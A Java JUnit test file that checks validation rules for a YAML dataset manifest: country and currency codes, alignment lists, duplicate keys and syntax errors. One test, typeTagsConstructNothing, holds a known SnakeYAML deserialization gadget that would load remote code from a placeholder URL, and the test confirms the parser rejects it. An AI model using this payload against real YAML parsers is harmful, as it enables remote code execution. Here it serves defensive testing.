package dev.kizuna.io.dataset;

import static org.assertj.core.api.Assertions.assertThat;

import dev.kizuna.supply.model.AlignmentClass;
import dev.kizuna.supply.model.CountryCode;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** kizuna.yaml rules; lines: 1 format, 2 name, 3 home, 4 currency, 5 alignment, 6 ally, 7 partner, 8 concern. */
class ManifestRulesTest {
    @TempDir
    Path dir;

    private Fixture manifest(String from, String to) {
        return Fixture.valid().replace("kizuna.yaml", from, to);
    }

    @Test
    void otherFormat() {
        assertThat(manifest("kizuna/1", "kizuna/2").problems(dir)).containsExactly(
                "kizuna.yaml:1: format must be 'kizuna/1', found 'kizuna/2'; this reader reads kizuna/1 only");
    }

    @Test
    void missingName() {
        assertThat(manifest("name: \"Test UAS\"\n", "").problems(dir)).containsExactly(
                "kizuna.yaml:1: missing key 'name'; give the dataset a name, e.g. name: \"JP-US small UAS\"");
    }

    @Test
    void homeInLowerCase() {
        assertThat(manifest("home: JP", "home: jp").problems(dir))
                .containsExactly("kizuna.yaml:3: home 'jp' must be upper case; use 'JP'");
    }

    @Test
    void homeNotIso() {
        assertThat(manifest("home: JP", "home: XX").problems(dir))
                .containsExactly("kizuna.yaml:3: home 'XX' is not an ISO 3166-1 alpha-2 country code (e.g. JP, US)");
    }

    @Test
    void currencyInLowerCase() {
        assertThat(manifest("currency: USD", "currency: usd").problems(dir))
                .containsExactly("kizuna.yaml:4: currency 'usd' must be upper case; use 'USD'");
    }

    @Test
    void currencyNotIso() {
        assertThat(manifest("currency: USD", "currency: ABC").problems(dir)).containsExactly(
                "kizuna.yaml:4: currency 'ABC' is not an ISO 4217 currency code (e.g. USD, JPY, EUR)");
    }

    @Test
    void countryInTwoLists() {
        assertThat(manifest("partner: [AU, TW]", "partner: [AU, TW, US]").problems(dir))
                .containsExactly("kizuna.yaml:7: country 'US' is in both ally and partner; keep it in one list");
    }

    @Test
    void homeInAList() {
        assertThat(manifest("concern: [CN]", "concern: [CN, JP]").problems(dir)).containsExactly(
                "kizuna.yaml:8: home country 'JP' must not be in the concern list; remove it there");
    }

    @Test
    void listEntryInLowerCase() {
        assertThat(manifest("ally: [US]", "ally: [us]").problems(dir))
                .containsExactly("kizuna.yaml:6: alignment.ally entry 'us' must be upper case; use 'US'");
    }

    @Test
    void listThatIsNotAList() {
        assertThat(manifest("ally: [US]", "ally: US").problems(dir))
                .containsExactly("kizuna.yaml:6: alignment.ally must be a list, e.g. ally: [US, GB]");
    }

    @Test
    void unknownAlignmentList() {
        assertThat(Fixture.valid().put("kizuna.yaml", Fixture.MANIFEST + "  enemy: [RU]\n").problems(dir))
                .containsExactly("kizuna.yaml:9: unknown alignment list 'enemy'; use ally, partner or concern");
    }

    @Test
    void keyGivenTwice() {
        assertThat(Fixture.valid().put("kizuna.yaml", Fixture.MANIFEST + "home: US\n").problems(dir))
                .containsExactly("kizuna.yaml:9: key 'home' appears twice; keep one");
    }

    @Test
    void notAMapping() {
        assertThat(Fixture.valid().put("kizuna.yaml", "- format\n- name\n").problems(dir)).containsExactly(
                "kizuna.yaml:1: must be a mapping of keys: format, name, home, currency, alignment");
    }

    @Test
    void emptyManifest() {
        assertThat(Fixture.valid().put("kizuna.yaml", "# nothing\n").problems(dir)).containsExactly(
                "kizuna.yaml:1: file is empty; it must hold format: kizuna/1, name, home, currency and alignment");
    }

    @Test
    void yamlSyntaxErrorCitesItsLine() {
        assertThat(manifest("concern: [CN]", "concern: [CN").problems(dir))
                .singleElement().asString().startsWith("kizuna.yaml:9: not valid YAML: ");
    }

    @Test
    void typeTagsConstructNothing() {
        assertThat(manifest("name: \"Test UAS\"",
                "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]")
                .problems(dir)).containsExactly(
                "kizuna.yaml:2: not valid YAML: Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager");
    }

    @Test
    void norwayIsACountryNotAYaml11Boolean() {
        var alignment = manifest("partner: [AU, TW]", "partner: [AU, TW, NO]").loaded(dir).dataset().manifest()
                .alignment();
        assertThat(alignment.classOf(new CountryCode("NO"))).isEqualTo(AlignmentClass.PARTNER);
    }

    @Test
    void alignmentMayBeLeftOut() {
        var manifest = Fixture.valid().put("kizuna.yaml", "format: kizuna/1\nname: x\nhome: JP\ncurrency: JPY\n")
                .loaded(dir).dataset().manifest();
        assertThat(manifest.alignment().classOf(new CountryCode("US"))).isEqualTo(AlignmentClass.OTHER);
        assertThat(manifest.currency()).isEqualTo("JPY");
    }
}
